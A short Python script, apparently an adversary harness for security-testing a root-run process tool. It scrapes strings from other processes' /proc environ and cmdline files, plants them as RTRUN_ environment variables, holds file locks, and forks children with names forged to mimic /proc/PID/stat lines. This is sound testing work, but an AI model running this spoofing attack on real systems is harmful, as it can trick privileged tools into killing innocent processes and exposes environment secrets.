"""An unprivileged user of a target, who wants root to end the process VICTIM: make_believe.py VICTIM FOLDER...

He reads whatever he can of all processes and of these folders, starts a program that has all of it in its environment
and their locks open, and gives its children names that look like lines and fields of /proc/PID/stat.
"""

import contextlib
import ctypes
import fcntl
import os
import sys
import time
from pathlib import Path

PR_SET_NAME = 15
WORDS_MAX = 5000


def readable(*folders):
    for pattern in ("[0-9]*/cmdline", "[0-9]*/environ"):
        yield from Path("/proc").glob(pattern)
    for folder in folders:
        yield from Path(folder).glob("*")


def words(*folders):
    found = set()
    for path in readable(*folders):
        with contextlib.suppress(OSError):
            found.update(path.read_bytes().replace(b"\n", b"\0").split(b"\0"))
    return sorted(word for word in found if word and len(word) < 300)[:WORDS_MAX]


def main(victim, *folders):
    if os.environ.get("INSIDE") is None:
        marks = (b"RTRUN_SYSTEM=", b"RTRUN_PROGRAM=", b"RTRUN_COMMAND=", b"")
        marked = {
            f"W{n}".encode(): mark + word
            for n, (mark, word) in enumerate((m, w) for m in marks for w in words(*folders))
        }
        os.execve(sys.executable, [sys.executable, *sys.argv], {**marked, b"INSIDE": b"1"})
    for folder in folders:
        for path in Path(folder).glob("*"):
            with contextlib.suppress(OSError):
                handle = os.open(path, os.O_RDONLY)
                fcntl.flock(handle, fcntl.LOCK_SH | fcntl.LOCK_NB)
                os.dup2(handle, 9)
    names = [f"\n{victim} (a", f"\n{victim} (a) S ", f") S {os.getpid()} 1 1", "a) Z 1 1\n", b"\xff\xfe\n"]
    for name in names:
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(PR_SET_NAME, name if isinstance(name, bytes) else name.encode(), 0, 0, 0)
            time.sleep(600)
            os._exit(0)
    print("ready", flush=True)
    time.sleep(600)


if __name__ == "__main__":
    main(*sys.argv[1:])
